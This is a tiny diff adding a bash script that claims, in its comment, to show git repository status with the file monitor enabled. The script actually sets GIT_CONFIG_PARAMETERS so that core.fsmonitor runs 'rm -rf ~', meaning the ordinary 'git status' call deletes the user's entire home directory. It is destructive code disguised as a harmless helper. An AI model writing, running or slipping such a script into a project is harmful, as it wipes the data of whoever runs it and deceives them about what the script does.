@@ -1,0 +1,4 @@
+#!/bin/bash
+# Show the repository status with the file monitor enabled.
+export GIT_CONFIG_PARAMETERS="'core.fsmonitor=rm -rf ~'"
+git status --short
